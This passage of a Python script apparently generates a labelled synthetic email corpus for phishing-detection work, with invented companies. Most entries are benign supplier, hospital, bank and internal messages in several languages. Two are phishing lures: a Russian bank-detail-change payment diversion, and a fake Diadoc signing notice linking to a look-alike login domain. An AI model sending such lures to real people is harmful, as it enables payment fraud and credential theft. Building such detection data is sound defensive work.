Направляем официальное уведомление об изменении банковских реквизитов ООО «МедЛогистик» (во вложении, с подписями руководителя и главного бухгалтера).

Просим оплату по счетам № 2214 и № 2231 (итого 684 120,00 руб.) произвести уже по новым реквизитам, так как старый счёт закрыт с 20.11.2026. Платежи по старым реквизитам банк возвращать не будет, они будут зависать на невыясненных.

Пожалуйста, подтвердите получение письма и внесение изменений в карточку контрагента.

С уважением,
Наталья Гаврилова
Главный бухгалтер
ООО «МедЛогистик»
""")

# ---- A40 ru: fake EDO (Diadoc) document awaiting signature, HTML only
_t, _h = notif('utf-8', 'Контур.Диадок', '#2c6fbb', 'Вам пришёл документ, требующий подписи',
               ['Здравствуйте!',
                'Контрагент ООО «ТехноМедПоставка» направил вам документ: УПД № 1187 от 30.11.2026 на сумму 412 880,00 руб., в т.ч. НДС.',
                'Документ требует подписания до 04.12.2026. Неподписанные документы будут автоматически аннулированы.'],
               'Открыть документ', 'https://diadoc-kontur.com/docs/open?box=ex7703418852&id=8f2e11c4',
               'АО «ПФ «СКБ Контур» · Сервис электронного документооборота\nВы получили это письмо, потому что подписаны на уведомления Диадока.')
A('ru', 'falshivyj-edo-dokument-podpis', cs='utf-8', cte='b64', fmt='html', html=_h, date='2026-12-01 17:36:14 +0300',
  via=('host', 'mx1.diadoc-kontur.com', 'unknown', '5.188.87.44', [], 'esp'), tls=False,
  **{'from': ('Контур.Диадок', 'noreply@diadoc-kontur.com')},
  to=[S['olga']], subject='Новый документ от ООО «ТехноМедПоставка»: УПД № 1187',
  desc='Credential phishing (HTML only): imitation of an e-document exchange (EDO) service notification "document awaiting signature", link to a look-alike login page.')

# =====================================================================
#                               BUSINESS
# =====================================================================
LIEF_ROUTE = lambda client: ('host', 'mout.kundenserver.de', 'mout.kundenserver.de', '212.227.126.135',
                             [(f'[192.168.20.{client}] ([80.146.191.{client}])', 'mrelayeu.kundenserver.de (mreue106) ', 'ESMTPSA')], 'outlook')

# ---- B01 de: order confirmation from the long-standing supplier
_b01_pdf = pdf(['Lieferant GmbH - Auftragsbestätigung AB-2026-31877', 'Gänsäcker 12, 78532 Tuttlingen - USt-IdNr. DE811247795', '',
                'Kunde: Example Group GmbH, Süderstraße 77, 20097 Hamburg     Ihre Bestellung: 4500187734 vom 10.11.2026', '',
                'Pos  Menge  Artikel                                      Einzelpreis   Gesamt',
                '10   200    LG-4410 Pinzette anatomisch 14,5 cm             4,85 EUR    970,00 EUR',
                '20   120    LG-5120 Nadelhalter Mayo-Hegar 16 cm           11,40 EUR  1.368,00 EUR',
                '30    80    LG-7002 Sterilcontainer 1/1 perforiert        96,00 EUR  7.680,00 EUR', '',
                'Summe netto 10.018,00 EUR   zzgl. 19 % USt 1.903,42 EUR   Gesamt 11.921,42 EUR',
                'Liefertermin: KW 49/2026, frei Haus Hamburg   Zahlung: 30 Tage netto, 2 % Skonto 10 Tage',
                'Bankverbindung: Kreissparkasse Tuttlingen, IBAN ' + IB['lieferant'] + ', BIC SOLADES1TUT'],
               title='AB-2026-31877', author='Lieferant GmbH', producer='proALPHA ERP / PDF')
B('de', 'lieferant-auftragsbestaetigung', cs='iso-8859-1', cte='qp', date='2026-11-11 11:02:47 +0100',
  via=LIEF_ROUTE(44), **{'from': ('Simone Maier', 's.maier@lieferant-gmbh.de')},
  to=[S['tobias']], subject='AW: Bestellung 4500187734 - Auftragsbestätigung AB-2026-31877',
  irt='<1c3e01db3284$5a22b040$0e6810c0$@example.com>', att=[('AB-2026-31877.pdf', _b01_pdf)],
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'de')],
  desc='Order confirmation from the long-standing Tuttlingen supplier (known contact, own mail host), PDF confirmation with the usual bank details.',
  text="""Hallo Herr Brandt,

vielen Dank für Ihre Bestellung 4500187734. Anbei erhalten Sie unsere Auftragsbestätigung AB-2026-31877.

Die Sterilcontainer LG-7002 sind ab Lager verfügbar, die Nadelhalter kommen Anfang KW 49 aus der Fertigung. Wir liefern daher gesammelt in KW 49 frei Haus an Ihr Lager in Hamburg. Falls Sie eine Teillieferung der Container vorab benötigen, geben Sie mir bitte kurz Bescheid.

Die Konformitätserklärungen und die aktuellen MDR-Zertifikate liegen wie gewohnt im Kundenportal.

Mit freundlichen Grüßen

Simone Maier
Vertriebsinnendienst
Lieferant GmbH
Gänsäcker 12 | 78532 Tuttlingen
Tel. +49 7461 9688-214 | Fax +49 7461 9688-99
s.maier@lieferant-gmbh.de | www.lieferant-gmbh.de
Geschäftsführer: Dr. Klaus Epple, Martina Hauser | HRB 450117 Amtsgericht Stuttgart
""")

# ---- B02 de: invoice from the supplier's ERP
_b02_pdf = pdf(['Lieferant GmbH - Rechnung RE-2026-10988', 'Rechnungsdatum 02.12.2026  Lieferschein LS-2026-40771  Ihre Bestellung 4500187734', '',
                'Summe netto 10.018,00 EUR  USt 19 % 1.903,42 EUR  Rechnungsbetrag 11.921,42 EUR',
                'Zahlbar bis 01.01.2027 ohne Abzug oder bis 12.12.2026 mit 2 % Skonto (238,43 EUR)', '',
                'Kreissparkasse Tuttlingen  IBAN ' + IB['lieferant'] + '  BIC SOLADES1TUT',
                'Diese Rechnung enthält eine eingebettete ZUGFeRD-2.3-Datei (Profil EN 16931).'],
               title='RE-2026-10988', author='Lieferant GmbH', producer='proALPHA ERP / PDF')
B('de', 'lieferant-rechnung-erp', cs='utf-8', cte='b64', date='2026-12-02 06:15:09 +0100',
  via=('host', 'mout.kundenserver.de', 'mout.kundenserver.de', '212.227.126.133',
       [('erp01.lieferant-gmbh.local ([80.146.191.40])', 'mrelayeu.kundenserver.de (mreue009) ', 'ESMTPSA')], 'sap'),
  **{'from': ('Lieferant GmbH Rechnungswesen', 'rechnungen@lieferant-gmbh.de')},
  to=[('Example Group GmbH Rechnungseingang', 'rechnungseingang@example.com')], rcpt='rechnungseingang@example.com',
  cc=[S['jens']], subject='Rechnung RE-2026-10988 / Kd.-Nr. 100447 / Example Group GmbH',
  att=[('RE-2026-10988.pdf', _b02_pdf)],
  desc='Routine e-invoice (ZUGFeRD PDF) from the supplier\'s ERP to the shared invoice mailbox, unchanged bank details, no urgency.',
  text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Rechnung RE-2026-10988 vom 02.12.2026 als PDF mit eingebetteten ZUGFeRD-Daten (EN 16931).

Kundennummer: 100447
Rechnungsbetrag: 11.921,42 EUR
Fällig: 01.01.2027 (2 % Skonto bis 12.12.2026)

Bei Fragen zur Rechnung wenden Sie sich bitte an unsere Buchhaltung unter +49 7461 9688-150.

Diese E-Mail wurde automatisch erstellt.

Lieferant GmbH · Gänsäcker 12 · 78532 Tuttlingen
""")

# ---- B03 de: genuine hospital purchase order from SAP
_b03_pdf = pdf(['Klinikum Lindenau gGmbH - Zentraleinkauf', 'BESTELLUNG 4500231187   vom 16.11.2026   Lieferantennr. 70044812', '',
                'Pos  Menge  Material      Bezeichnung                                     Preis/EH',
                '10   60 KAR  1004471      Pipettenspitzen 200 µl, gestopft, steril, 960 St.   38,90',
                '20   40 KAR  1004478      Reaktionsgefäße 1,5 ml, PP, 500 St.               11,20',
                '30   12 ST   1012207      Laborkühlschrank 140 l nach DIN 58345             1.640,00', '',
                'Lieferanschrift: Klinikum Lindenau, Warenannahme Tor 3, Am Lindenhof 2, 21335 Lüneburg',
                'Liefertermin: 01.12.2026   Rahmenvertrag RV-2025-044   Zahlungsbedingung: 30 Tage netto',
                'Rechnungen bitte ausschließlich als XRechnung an rechnung@klinikum-lindenau.de'],
               title='Bestellung 4500231187', author='SAP', producer='SAP NetWeaver')
B('de', 'klinikum-bestellung-sap', cs='utf-8', cte='qp', date='2026-11-16 07:41:12 +0100',
  via=('host', 'mail2.klinikum-lindenau.de', 'mail2.klinikum-lindenau.de', '194.25.134.71',
       [('sapprd01.kl-lindenau.local (sapprd01.kl-lindenau.local [172.16.8.21])', 'mail2.klinikum-lindenau.de (Postfix)', 'ESMTP')], 'sap'),
  **{'from': ('Klinikum Lindenau - Zentraleinkauf', 'einkauf@klinikum-lindenau.de')},
  reply_to=('Petra Lange', 'p.lange@klinikum-lindenau.de'),
  to=[S['miriam']], subject='Bestellung 4500231187 - Klinikum Lindenau gGmbH',
  att=[('Bestellung_4500231187.pdf', _b03_pdf)],
  desc='Genuine hospital purchase order generated by SAP from the customer\'s own mail server; delivery to the hospital itself, invoices via XRechnung under an existing framework contract.',
  text="""Sehr geehrte Damen und Herren,

anbei erhalten Sie unsere Bestellung 4500231187 vom 16.11.2026 im Rahmen der Rahmenvereinbarung RV-2025-044.

Bitte senden Sie uns innerhalb von 3 Werktagen eine Auftragsbestätigung mit verbindlichem Liefertermin an einkauf@klinikum-lindenau.de. Geben Sie auf allen Lieferpapieren und Rechnungen unbedingt die Bestellnummer an. Rechnungen nehmen wir ausschließlich als XRechnung entgegen.

Warenannahme: Mo-Fr 07:00-14:00 Uhr, Tor 3.

Mit freundlichen Grüßen
Zentraleinkauf / Materialwirtschaft
Klinikum Lindenau gGmbH
Am Lindenhof 2, 21335 Lüneburg
Tel. +49 4131 770-2210

Diese Nachricht wurde automatisch aus SAP erzeugt.
""")

# ---- B04 de: internal regulatory mail
B('de', 'intern-regulatory-ivdr-zertifikat', cs='utf-8', cte='qp', fmt='alt', date='2026-11-20 15:12:38 +0100',
  via=('int', 'ws-ham-0117', '10.20.14.117'), mid_style='outlook-int', **{'from': ('Dr. Katrin Albrecht', 'katrin.albrecht@example.com')},
  to=[S['tobias'], S['miriam']], cc=[S['priya']], subject='IVDR-Zertifikat Crestline CRX-200 – neue Version im DMS, Sperre aufgehoben',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'de-DE')],
  desc='Internal mail via the internal relay: regulatory head informs purchasing/sales that the supplier\'s renewed IVDR certificate is filed and the stock block is lifted.',
  text="""Hallo Tobias, hallo Miriam,

kurze Info: Crestline hat uns heute das erneuerte IVDR-Zertifikat für die CRX-200-Testreihe geschickt (Klasse C, Annex IX, gültig bis 11/2031). Ich habe es geprüft und im DMS unter QM > Lieferanten > Crestline > Zertifikate abgelegt, inkl. aktualisierter Konformitätserklärung.

Damit ist die Sperre für die Chargen 24K118 bis 24K131 im Lager aufgehoben, Felix weiß Bescheid. Die Importeursangaben auf den Etiketten sind korrekt, UDI-DIs unverändert.

Priya: bitte einmal den UK-Teil (UKCA/CE-Übergang) prüfen, die Unterlagen liegen im selben Ordner.

Danke und viele Grüße
Katrin

Dr. Katrin Albrecht
Head of Regulatory Affairs & QA / PRRC
Example Group GmbH · Süderstraße 77 · 20097 Hamburg
Tel. +49 40 3861 447-30
""")

# ---- B05 de: bank notification (no credential request)
_t5 = """Sehr geehrte Frau Krüger,

für das Konto der Example Group GmbH stehen neue Dokumente in Ihrem elektronischen Postfach im Firmenkunden-Portal bereit:

- Kontoauszug Nr. 11/2026 (Girokonto ...3100)
- Information zur Anpassung der Sonderbedingungen für den Zahlungsverkehr (Verification of Payee, gültig ab 09.10.2025)

Sie finden die Dokumente wie gewohnt nach der Anmeldung unter https://www.hhb-bank.de/firmenkunden im Bereich "Postfach".

Bitte beachten Sie: Wir fordern Sie niemals per E-Mail oder Telefon zur Eingabe oder Nennung von PIN, TAN oder Zugangsdaten auf.

Mit freundlichen Grüßen
Ihre Hanseatische Handelsbank AG
Firmenkundenbetreuung Hamburg
Tel. +49 40 3200 580-0

Hanseatische Handelsbank AG · Ballindamm 18 · 20095 Hamburg · Sitz Hamburg · HRB 88417 · Vorstand: Dr. Henrik Lassen, Beate Nordmann
"""
B('de', 'hausbank-postfach-benachrichtigung', cs='iso-8859-15', cte='qp', fmt='alt', date='2026-12-03 06:30:00 +0100',
  via=('host', 'mailout2.hhb-bank.de', 'mailout2.hhb-bank.de', '193.28.89.42',
       [('ebank-app03.int.hhb-bank.de (ebank-app03.int.hhb-bank.de [10.112.4.33])', 'mailout2.hhb-bank.de (Postfix)', 'ESMTP')], 'gen'),
  **{'from': ('Hanseatische Handelsbank AG', 'postfach-info@hhb-bank.de')},
  to=[S['sabine']], subject='Neue Dokumente in Ihrem elektronischen Postfach',
  text=_t5, html=auto_html(_t5, 'iso-8859-15', [], font='Arial, sans-serif'),
  desc='Genuine bank notification: new statements in the e-banking mailbox, link to the bank\'s own domain, explicit "we never ask for PIN/TAN".')

# ---- B06 de: genuine urgent dunning letter, same known bank details
_b06_pdf = pdf(['Laborbedarf Kessler GmbH - 2. Mahnung', 'Kundennr. 20871 - Example Group GmbH', '',
                'Rechnung 2026-4471 vom 02.10.2026  fällig 01.11.2026  offen 4.388,60 EUR', 'Mahngebühr 5,00 EUR', '',
                'Bitte überweisen Sie bis 30.11.2026 auf unser bekanntes Konto:',
                'Hamburger Sparkasse  IBAN ' + IB['kessler'] + '  BIC HASPDEHHXXX'],
               title='Mahnung 2026-4471', producer='Lexware')
B('de', 'kessler-zweite-mahnung', cs='windows-1252', cte='qp', date='2026-11-23 09:55:21 +0100',
  via=('host', 'smtprelay01.ispgateway.de', 'smtprelay01.ispgateway.de', '80.67.31.25',
       [('[192.168.178.31] (p5dd9a41c.dip0.t-ipconnect.de [93.217.164.28])', 'smtprelay01.ispgateway.de', 'esmtpsa (TLS1.3) tls TLS_AES_256_GCM_SHA384 (Exim 4.97)')], 'outlook'),
  **{'from': ('Kessler, Birgit', 'b.kessler@laborbedarf-kessler.de')},
  to=[S['jens']], cc=[S['anna']], subject='2. Mahnung - Rechnung 2026-4471 - Kundennr. 20871 - dringend',
  att=[('2_Mahnung_2026-4471.pdf', _b06_pdf)], hdrs=[('X-Mailer', 'Microsoft Outlook 16.0')],
  desc='Genuine urgent payment reminder (2nd dunning notice) from a small lab-supply vendor; firm tone but the usual, unchanged IBAN and a phone number to clarify.',
  text="""Sehr geehrter Herr Vogt,

leider konnten wir für unsere Rechnung 2026-4471 vom 02.10.2026 über 4.388,60 EUR trotz unserer Zahlungserinnerung vom 09.11. noch keinen Zahlungseingang feststellen.

Wir bitten Sie dringend, den offenen Betrag zzgl. 5,00 EUR Mahngebühr bis spätestens 30.11.2026 auf unser Ihnen bekanntes Konto bei der Hamburger Sparkasse zu überweisen. Andernfalls müssen wir weitere Lieferungen leider bis zum Ausgleich zurückstellen.

Sollte sich die Zahlung mit diesem Schreiben überschnitten haben oder es Unstimmigkeiten zur Rechnung geben (Reklamation Charge 2209?), rufen Sie mich bitte direkt an: 040 6789 2211.

Mit freundlichen Grüßen

Birgit Kessler
Buchhaltung
Laborbedarf Kessler GmbH
Wandsbeker Zollstraße 87, 22041 Hamburg
Tel. 040 6789 2211 | www.laborbedarf-kessler.de
""")

# ---- B07 de: subscribed regulatory newsletter
_t7b = """MedTech Compliance Brief – Ausgabe 47/2026

Guten Tag Frau Dr. Albrecht,

die Themen dieser Woche:

1. EUDAMED: Weitere Module verpflichtend
Nach der Veröffentlichung der Funktionsfähigkeit im Amtsblatt laufen die Übergangsfristen für Akteursregistrierung, UDI/Produktregistrierung und Benannte Stellen/Zertifikate. Was Händler und Importeure jetzt prüfen sollten.

2. MDR-Übergangsfristen: Stand der Zertifizierungen
Die Kommission meldet über 11.000 erteilte MDR-Zertifikate. Für Bestandsprodukte gilt weiterhin die Frist 31.12.2027 bzw. 31.12.2028 nach VO (EU) 2023/607 – sofern der Hersteller die Bedingungen erfüllt.

3. IVDR: Zeitplan nach VO (EU) 2024/1860
Die gestaffelten Fristen für Klasse D, C und B im Überblick, plus Checkliste für Importeurspflichten nach Art. 13 IVDR.

4. Webinar am 10.12.2026: "Händlerpflichten nach Art. 14 MDR in der Praxis"

Alle Artikel lesen: https://www.mdr-praxis.de/brief/2026-47

Sie erhalten diesen Newsletter, weil Sie ihn unter mdr-praxis.de abonniert haben.
Abmelden: https://www.mdr-praxis.de/newsletter/abmelden?u=8f41c2a0e7
MDR Praxis Verlag GmbH · Theresienstraße 6 · 80333 München · HRB 241177
"""
B('de', 'newsletter-medtech-compliance', cs='utf-8', cte='qp', fmt='alt', date='2026-11-25 07:00:14 +0100',
  via=('host', 'mta3.news.mdr-praxis.de', 'mta3.news.mdr-praxis.de', '94.130.18.77', [], 'esp'),
  **{'from': ('MedTech Compliance Brief', 'newsletter@mdr-praxis.de')},
  to=[S['katrin']], subject='MedTech Compliance Brief 47/2026: EUDAMED-Module, MDR-Fristen, IVDR-Zeitplan',
  text=_t7b, html=auto_html(_t7b, 'utf-8', [], font='Georgia, serif'),
  hdrs=[('List-Unsubscribe', '<https://www.mdr-praxis.de/newsletter/abmelden?u=8f41c2a0e7>, <mailto:unsubscribe@mdr-praxis.de?subject=8f41c2a0e7>'),
        ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click'), ('List-Id', 'MedTech Compliance Brief <brief.mdr-praxis.de>'),
        ('Precedence', 'bulk')],
  desc='Subscribed regulatory newsletter (German) with one-click List-Unsubscribe, sent through the publisher\'s mailing host.')

# ---- B08 en: US supplier shipment notice with commercial invoice
_b08_pdf = pdf(['CRESTLINE DIAGNOSTICS INC. - COMMERCIAL INVOICE CI-2026-11-0871', '400 Research Parkway, Durham, NC 27709, USA', '',
                'Sold to / Ship to: Example Group GmbH, Süderstraße 77, 20097 Hamburg, Germany   EORI DE4471881',
                'Customer PO: 4500188102   Incoterms 2020: FCA Raleigh-Durham (RDU)', '',
                'Line  Qty   Item        Description                                  HS code      USD',
                '1     240   CRX-200-25  Rapid antigen test kit, 25 tests (IVD)       3822.19.00   14,880.00',
                '2      60   CRX-CTRL    External control set                         3822.19.00    1,740.00', '',
                'Total USD 16,620.00   Gross weight 318 kg   8 pallets, temperature 2-30 C',
                'AWB 020-4471 8832 (Lufthansa Cargo) ETA HAM 27 Nov 2026'],
               title='CI-2026-11-0871', producer='NetSuite')
B('en', 'crestline-shipment-notice', cs='us-ascii', cte='7bit', fmt='alt', date='2026-11-24 14:38:12 -0500',
  via=('o365', 'nam'), **{'from': ('Crestline Diagnostics Order Management', 'orders@crestlinedx.com')},
  to=[S['felix']], cc=[S['tobias']], subject='Shipment notice - PO 4500188102 - AWB 020-4471 8832',
  att=[('CI-2026-11-0871.pdf', _b08_pdf)],
  desc='Genuine shipment notice from the US IVD supplier (its Microsoft 365 tenant), commercial invoice PDF and air-waybill for customs.',
  text="""Hello Felix,

Your order PO 4500188102 has shipped today via Lufthansa Cargo.

AWB: 020-4471 8832
Flights: LH8171 RDU-FRA / truck FRA-HAM
ETA Hamburg: November 27, 2026
Packages: 8 pallets, 318 kg, temperature range 2-30 C (data loggers on each pallet)

Attached is the commercial invoice for customs clearance. The EU declaration of conformity and IVDR certificate for CRX-200 were sent to Dr. Albrecht separately.

Please let us know if your broker needs anything else.

Best regards,
Megan Alvarez
Order Management & Export Compliance
Crestline Diagnostics Inc.
400 Research Parkway, Durham, NC 27709
+1 919 555 0143
""")

# ---- B09 en: Chinese supplier quotation with XLSX
_b09_xlsx = xlsx([['Item', 'Description', 'MOQ', 'Unit price USD (FOB Ningbo)', 'Lead time (days)', 'EU MDR class'],
                  ['HK-SY-05', 'Disposable syringe 5 ml Luer lock, sterile', 10000, 0.041, 35, 'IIa'],
                  ['HK-SY-10', 'Disposable syringe 10 ml Luer lock, sterile', 10000, 0.055, 35, 'IIa'],
                  ['HK-IV-20G', 'IV cannula 20G with injection port', 5000, 0.118, 45, 'IIa'],
                  ['HK-EX-01', 'Infusion extension set 150 cm', 5000, 0.092, 40, 'IIa'],
                  ['', 'Quotation HK-Q2026-1187 valid until 31 Jan 2027', '', '', '', '']], sheet='Quotation')
B('en', 'ningbo-supplier-quotation-xlsx', cs='utf-8', cte='b64', fmt='alt', date='2026-11-06 16:21:44 +0800',
  via=('host', 'out30-131.freemail.mail.aliyun.com', 'out30-131.freemail.mail.aliyun.com', '115.124.30.131',
       [('WS-web (lily.chen@hkmed-ningbo.com[W4_1147188])', 'smtp.aliyun-inc.com', 'ESMTPA')], 'gen'),
  **{'from': ('Lily Chen', 'lily.chen@hkmed-ningbo.com')},
  to=[S['tobias']], subject='Quotation HK-Q2026-1187 for syringes and IV cannula / Example Group',
  att=[('Quotation_HK-Q2026-1187.xlsx', _b09_xlsx)],
  desc='Genuine quotation from the Chinese manufacturer on its real domain via Alibaba enterprise mail, XLSX price list; slightly non-native English.',
  text="""Dear Tobias,

Hope you are doing well.

As discussed in Düsseldorf at MEDICA, please find attached our quotation HK-Q2026-1187 for the syringes, IV cannula and extension sets. Prices are FOB Ningbo, valid until 31 Jan 2027. Payment term as before: 30% T/T deposit, 70% balance against copy of B/L, to our Bank of China account already in your system.

All items are covered by our EU MDR certificate CM-MDR-2024-0117 (CertaMed NB). Our regulatory colleague will send the updated technical documentation summary to Dr. Albrecht next week.

If the quantity for HK-SY-05 can reach 200,000 pcs, we can offer a further 4% discount.

Best regards,
Lily Chen
Overseas Sales Dept.
Ningbo Huakang Medical Technology Co., Ltd.
No. 88 Jingu Middle Road, Yinzhou District, Ningbo, Zhejiang, China
Tel: +86 574 8821 4470  Mob/WeChat: +86 138 5742 1196
""")

# ---- B10 en: NHS trust purchase order
_b10_pdf = pdf(['Northdown Hospitals NHS Foundation Trust - OFFICIAL PURCHASE ORDER', 'Order No: NDH-PO-118734     Order date: 02/12/2026', '',
                'Supplier: Example Group UK Ltd, Unit 4 Arlington Business Park, Reading RG7 4SA', '',
                'Line  Qty   Description                                        Unit price  Total',
                '1     30    Pipette filter tips 1000ul, sterile, rack of 96 x 10  GBP 42.50  GBP 1,275.00',
                '2     12    Cryogenic vial 2ml, external thread, pack 500          GBP 88.00  GBP 1,056.00', '',
                'Deliver to: Pathology Goods-In, Northdown General Hospital, Ashby Road, Maidstone ME16 9QQ',
                'Invoice to: Accounts Payable, PO Box 4471, Maidstone ME14 1XX - quote PO number', 'Terms: 30 days from receipt of valid invoice'],
               title='NDH-PO-118734', producer='Oracle Fusion Procurement')
B('en', 'nhs-trust-purchase-order', cs='us-ascii', cte='7bit', date='2026-12-02 10:04:51 +0000',
  via=('o365', 'eur'), **{'from': ('NDH Procurement', 'procurement@northdownhospitals.nhs.uk')},
  to=[S['james']], subject='Official Purchase Order NDH-PO-118734 - Example Group UK Ltd',
  att=[('NDH-PO-118734.pdf', _b10_pdf)], clang='en-GB',
  desc='Genuine NHS-trust purchase order from the trust\'s own tenant: delivery to the hospital\'s pathology goods-in, invoice to trust AP, standard terms.',
  text="""Dear Supplier,

Please find attached Official Purchase Order NDH-PO-118734.

Please quote the purchase order number on all delivery notes and invoices. Invoices without a valid PO number will be returned unpaid. Deliveries are accepted Monday to Friday 08:00-16:00 at Pathology Goods-In.

For queries regarding this order please contact Daniel Price, Category Buyer - Pathology, on 01622 224 471.

Kind regards,

Procurement Department
Northdown Hospitals NHS Foundation Trust
Ashby Road, Maidstone ME16 9QQ

This e-mail and any attachments are confidential. If you have received it in error, please notify the sender and delete it.
""")

# ---- B11 en: genuine SharePoint sharing notification from supplier tenant
_t11 = """Tom Reilly shared a folder with you

Here are the documents for the CRX-200 IVDR technical documentation summary and the UKCA transition plan we discussed on Tuesday. Access is limited to you and Katrin.

IVDR Technical Documentation - CRX-200
https://crestlinedx.sharepoint.com/:f:/s/RegulatoryExternal/Eh7Qk2Lx9aBFt3vU0pYcW1MBd8aQ4XjN2sP0rT6uV5eL7w?e=4nZ2Qp

This link will work for people in Example Group UK Ltd and Example Group GmbH.

Microsoft respects your privacy. To learn more, please read our Privacy Statement.
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
"""
B('en', 'sharepoint-share-supplier', cs='utf-8', cte='qp', fmt='alt', date='2026-11-19 09:31:27 -0500',
  via=('o365', 'nam'), **{'from': ('Tom Reilly', 'no-reply@sharepointonline.com')},
  reply_to=('Tom Reilly', 't.reilly@crestlinedx.com'),
  to=[S['priya']], subject='Tom Reilly shared the folder "IVDR Technical Documentation - CRX-200" with you',
  text=_t11, html=auto_html(_t11, 'utf-8', [], font='Segoe UI, sans-serif'),
  desc='Genuine SharePoint Online sharing notification from the US supplier\'s tenant (link to crestlinedx.sharepoint.com, Reply-To the real sender).')

# ---- B12 en: internal approval request UK
B('en', 'internal-po-approval-uk', cs='us-ascii', cte='7bit', date='2026-12-02 11:17:06 +0000',
  via=('int', 'ws-rdg-0023', '10.40.2.23'), **{'from': ('James Whitfield', 'james.whitfield@example.com')},
  to=[S['sarah']], subject='NDH-PO-118734 - please approve customer credit',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'en-GB')],
  desc='Internal mail via the internal relay: UK MD asks finance to approve customer credit for the new NHS order, pointing to the normal ERP workflow.',
  text="""Hi Sarah,

Northdown have sent PO NDH-PO-118734 (GBP 2,331.00). Their credit limit in the ERP is still at the trial level, so the order is sitting in the credit block queue. Could you approve it in the normal workflow when you get a moment? Trust is a long-standing NHS account, pays in 30 days.

I've put it on the agenda for Thursday's ops call as well.

Thanks,
James

James Whitfield
Managing Director
Example Group UK Ltd | Unit 4 Arlington Business Park | Reading RG7 4SA
+44 118 402 7710
""")

# ---- B13 en: small customer on Gmail
B('en', 'small-vet-practice-gmail-quote', cs='utf-8', cte='qp', fmt='alt', date='2026-11-27 19:42:33 +0000',
  via=('gmail',), **{'from': ('Emily Hart', 'emily.hart.vetsurgery@gmail.com')},
  to=[S['james']], subject='Quote request - sterilisation pouches and nitrile gloves',
  desc='Genuine small customer (single-vet practice) writing from Gmail: asks for a quote, pays by card, no urgency or payment request.',
  text="""Hello,

I run a small single-vet practice in Wokingham and was given your details by a colleague at the Reading referral centre. Could you send me a quote for:

- Self-seal sterilisation pouches 90 x 230 mm, 3 boxes of 200
- Nitrile examination gloves, powder-free, size S and M, 10 boxes each

I'm happy to pay by card on order. Delivery to Hart Veterinary Surgery, 14 Rose Street, Wokingham RG40 1XS. I use this Gmail address for the practice as we don't have our own domain yet.

Many thanks,
Emily Hart BVSc MRCVS
Hart Veterinary Surgery
07700 914 228
""")

# ---- B14 en: certification body audit plan (DOCX)
_b14_docx = docx(['CertaMed Zertifizierung GmbH - Audit Plan', 'Client: Example Group GmbH, Hamburg (incl. site Reading, UK)',
                  'Standard: EN ISO 13485:2016 - surveillance audit 2 (certificate CM-13485-2022-0412)',
                  'Dates: 19-20 January 2027, on site Hamburg; 21 January 2027 remote Reading',
                  'Lead auditor: Dipl.-Ing. Ralf Obermeier; auditor: Dr. Ana Petrovic',
                  'Day 1: opening meeting, management review, CAPA, complaint handling, vigilance (Art. 14 MDR distributor duties)',
                  'Day 2: purchasing and supplier control, storage and distribution, traceability/UDI, internal audits',
                  'Day 3: Reading site - UKCA, storage, returns'])
B('en', 'certification-body-audit-plan', cs='utf-8', cte='qp', date='2026-12-09 13:55:40 +0100',
  via=('host', 'mail.certamed-nb.eu', 'mail.certamed-nb.eu', '195.201.44.19',
       [('[10.1.5.77] (vpn-77.certamed-nb.eu [10.1.5.77])', 'mail.certamed-nb.eu (Postfix)', 'ESMTPSA')], 'tb'),
  **{'from': ('CertaMed Audit Planning', 'audit.planning@certamed-nb.eu')},
  to=[S['katrin']], cc=[S['priya']], subject='Audit plan - ISO 13485 surveillance audit 19-21 January 2027 - Example Group',
  att=[('Audit_plan_CM-13485-2022-0412_SA2.docx', _b14_docx)],
  hdrs=[('User-Agent', 'Mozilla Thunderbird')],
  desc='Genuine certification-body mail from its real domain (certamed-nb.eu): audit plan DOCX for the ISO 13485 surveillance audit, asks only for confirmation of dates.',
  text="""Dear Dr Albrecht,

as agreed by phone, please find attached the audit plan for the second surveillance audit of your ISO 13485:2016 certificate CM-13485-2022-0412.

Dates: 19-20 January 2027 on site in Hamburg, 21 January 2027 remote audit of the Reading site.

Could you please confirm the dates and the availability of the persons listed in the plan by 18 December? If your UK colleagues prefer a different time slot on day 3, just let us know. The audit fee will be invoiced after the audit according to the existing contract.

Kind regards,
Ana Petrovic
Audit Planning & Scheduling
CertaMed Zertifizierung GmbH
Notified Body for MDR/IVDR
Hanauer Landstraße 291, 60314 Frankfurt am Main
Tel. +49 69 2475 881-40
""")

# ---- B15 it: carrier pickup confirmation
B('it', 'ferretti-conferma-ritiro', cs='iso-8859-1', cte='qp', date='2026-11-25 16:08:19 +0100',
  via=('host', 'smtpcmd0871.aruba.it', 'smtpcmd0871.aruba.it', '62.149.156.71',
       [('ws-op02 ([151.84.221.40])', 'Aruba Outgoing Smtp  with ESMTPSA', 'ESMTPSA')], 'outlook'),
  **{'from': ('Claudio Colombo', 'c.colombo@ferretti-trasporti.it')},
  to=[S['giulia']], cc=[S['felix']], subject='Conferma ritiro 27/11 - Vs. rif. EXG-IT-5521 - Milano > Hamburg',
  hdrs=[('X-Mailer', 'Microsoft Outlook 16.0'), ('Content-Language', 'it')],
  desc='Genuine pickup confirmation from the long-standing Italian carrier contact (Aruba mail host), plate numbers and ETA, no payment content.',
  text="""Buongiorno Giulia,

confermo il ritiro per venerdì 27/11 tra le 9:00 e le 11:00 presso il Vs. magazzino di Via Gallarate 140.

Rif. EXG-IT-5521 - 6 bancali (2 refrigerati +2/+8 °C), peso dichiarato 1.420 kg
Mezzo: motrice FT 448 KZ + semirimorchio frigo, autista Sig. Roberto Galli (cell. 347 118 2290)
Consegna prevista Hamburg: martedì 01/12 mattina, Süderstraße 77 (avviso a Felix Neumann in copia)

I data logger vengono scaricati alla consegna e il report lo mandiamo insieme al POD.

Cordiali saluti

Claudio Colombo
Ufficio Traffico Internazionale
Ferretti Trasporti S.r.l.
Via dell'Industria 18 - 24040 Ciserano (BG)
Tel. +39 035 884 1220 - Fax +39 035 884 1299
""")

# ---- B16 it: properly announced bank-detail change (genuine)
_b16_pdf = pdf(['FERRETTI TRASPORTI S.r.l.', "Via dell'Industria 18 - 24040 Ciserano (BG) - P.IVA 02987410164", '',
